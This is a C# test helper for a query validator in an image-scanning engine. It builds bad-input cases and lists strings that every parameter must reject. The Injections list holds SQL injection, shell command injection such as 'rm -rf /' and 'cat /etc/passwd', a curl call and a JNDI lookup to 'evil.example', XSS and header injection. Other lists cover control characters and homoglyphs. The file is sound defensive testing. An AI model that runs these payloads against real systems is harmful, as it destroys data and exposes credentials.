using ImageBuilderScan.Engine.Queries;

namespace ImageBuilderScan.Engine.Tests.Validation;

/// <summary>One hostile input: the query carrying it, the parameter it must be blamed on, and text
/// the expected form in the message must contain.</summary>
internal sealed record BadInputCase(string Label, object Query, string Parameter, string FormFragment, string? Value)
{
    public static BadInputCase Aggregation(string label, string? filter, IReadOnlyList<string> values, string parameter, string form,
        string? valuesParameter = null, string? token = null) =>
        new(label, new AggregationQuery { FilterName = filter, Values = values, ValuesParameterName = valuesParameter, NextToken = token },
            parameter, form, values.Count > 0 ? values[^1] : token);

    public static BadInputCase Finding(string label, string? filter, IReadOnlyList<string> values, string parameter, string form,
        string? valuesParameter = null, string? token = null, int? pageSize = null) =>
        new(label, new FindingQuery { FilterName = filter, Values = values, ValuesParameterName = valuesParameter, NextToken = token, PageSize = pageSize },
            parameter, form, values.Count > 0 ? values[^1] : token);
}

/// <summary>Strings every parameter must refuse, whatever it expects.</summary>
internal static class HostileStrings
{
    public static readonly string[] Injections =
    [
        "\"; DROP TABLE findings; --", "'; DROP TABLE findings; --", "$(rm -rf /)", "`id`", "; ls -la", "| cat /etc/passwd",
        "&& curl http://evil.example", "' OR '1'='1", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
        "%00", "%0d%0aX-Injected: 1", "\r\nX-Injected: 1", "\\u0000", "..\\..\\windows", "*", "?", "#", "@everyone", "a=b&c=d",
    ];

    public static readonly string[] Invisible =
    [
        "\0", "\u0001", "\a", "\b", "\t", "\n", "\v", "\f", "\r", "\u001b[2J", "\u001b]0;pwned\u0007", "\u007f", "\u0085", "\u009b",
        "\u200b", "\u200e", "\u202e", "\u2028", "\u2029", "\ufeff", "\ud800",
    ];

    /// <summary>Characters that look like ones the model allows but are not ASCII.</summary>
    public static readonly (char Ascii, char LookAlike)[] LookAlikes =
    [
        ('a', '\u0430'), ('e', '\u0435'), ('o', '\u03bf'), ('i', '\u0456'), ('-', '\u2011'), ('-', '\u2013'), (':', '\uff1a'),
        ('/', '\u2215'), ('1', '\u0661'), ('2', '\uff12'), ('0', '\u06f0'), ('.', '\u2024'), (' ', '\u00a0'), ('k', '\u212a'),
    ];

    /// <summary>Every variant of <paramref name="good"/> with one hostile string prepended, inserted, or appended.</summary>
    public static IEnumerable<(string Label, string Value)> Spliced(string good)
    {
        foreach (var bad in Injections.Concat(Invisible))
        {
            yield return ($"suffix {Show(bad)}", good + bad);
            yield return ($"prefix {Show(bad)}", bad + good);
            yield return ($"infix {Show(bad)}", good[..(good.Length / 2)] + bad + good[(good.Length / 2)..]);
        }
        foreach (var (ascii, lookAlike) in LookAlikes)
        {
            var at = good.IndexOf(ascii);
            if (at >= 0) yield return ($"look-alike U+{(int)lookAlike:X4}", good[..at] + lookAlike + good[(at + 1)..]);
        }
        yield return ("empty", "");
        yield return ("blank", " ");
        yield return ("padded", " " + good + " ");
        yield return ("over-long by one", good + new string('a', Queries.QueryValidator.MaxValueLength - good.Length + 1));
        yield return ("over-long 70000", new string('a', 70_000));
        yield return ("newline-terminated", good + "\n");
    }

    public static string Show(string s) => Queries.InputDisplay.Show(s);
}
